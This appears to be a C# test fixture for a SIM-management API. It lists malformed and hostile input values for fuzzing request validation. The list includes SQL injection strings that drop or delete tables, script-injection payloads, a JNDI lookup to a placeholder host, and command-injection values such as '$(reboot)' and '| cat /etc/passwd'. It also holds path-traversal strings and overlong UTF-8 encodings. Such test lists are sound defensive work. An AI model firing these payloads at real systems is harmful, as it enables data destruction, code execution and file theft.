namespace SimConsole.Tests.Api;

/// <summary>Values that no client means well with, encoded as they stand in a URL or in a form.</summary>
internal static class BadValues
{
    private static readonly string[] Texts =
    [
        "", " ", "\t", "\r\n", "0", "-1", "+1", "1.5", "1e3", "0x10", "1,000", "٣", "NaN", "Infinity", "2147483648", "-9223372036854775809", "99999999999999999999999999999999",
        "true", "TRUE", "yes", "null", "undefined", "None", "[]", "{}", "{\"a\":1}", "\u0001", "a\u0007b", "\u007f", "\u0085", "\u2028", "\ufeff", "\u202egnp.exe", "\uffff",
        "😀", "👩‍👩‍👧‍👦", "é", "e\u0301", "İstanbul", "ﬃ", "数据", "البيانات", "ข้อมูล", "𝒮𝒾𝓂", "Ａctive",
        "' OR '1'='1", "'; DROP TABLE SIMs; --", "\" OR \"\"=\"", "1); DELETE FROM Fleets", "%' ESCAPE '", "[a-z]%", "_", "*", "\\", "\\'", "/*", "sleep(5)",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${7*7}", "${jndi:ldap://callbacks.invalid/a}", "$(reboot)", "`id`", "| cat /etc/passwd", "%n%s%x",
        "a/b", "../../../etc/passwd", "..\\..\\win.ini", "a?b", "a#b", "a&b=c", "a;b", "a+b", "C:\\con", "file:///etc/passwd", "http://", "http://[::1", "http://a:99999/", "//callbacks.invalid", "http://callbacks.invalid/\u0001",
        "HS00000000000000000000000000000000", "HS0000000000000000000000000000000", "HSgggggggggggggggggggggggggggggggg", "hs00000000000000000000000000000000", "AC00000000000000000000000000000009",
        "89883070001234567890", "scheduled", "ACTIVE", "new", "PUT", "default",
        "2026-02-30T00:00:00Z", "2026-13-45T99:99:99Z", "0001-01-01T00:00:00-14:00", "9999-12-31T23:59:59-14:00", "2026-01-01T00:00:00+99:00", "20260101", "24:00", "1767225600",
        new('x', 65), new('9', 400), new('x', 2_100), new('%', 300), string.Concat(Enumerable.Repeat("😀", 200)), string.Concat(Enumerable.Repeat("e\u0301", 300)),
    ];

    // What no encoder writes: a null, bytes that are no UTF-8, a lone surrogate, an overlong slash, and per cent signs that lead nowhere.
    private static readonly string[] Raw = ["%00", "a%00b", "%ff%fe", "%80", "%ed%a0%80", "%c0%af", "%c0%ae%c0%ae%c0%af", "%f4%90%80%80", "%", "%z", "%zz", "%u0041", "%%%", "a%2", "+", "%2500", "%252e%252e%252f"];

    public static IReadOnlyList<string> All { get; } = [.. Texts.Select(Uri.EscapeDataString), .. Raw];
}
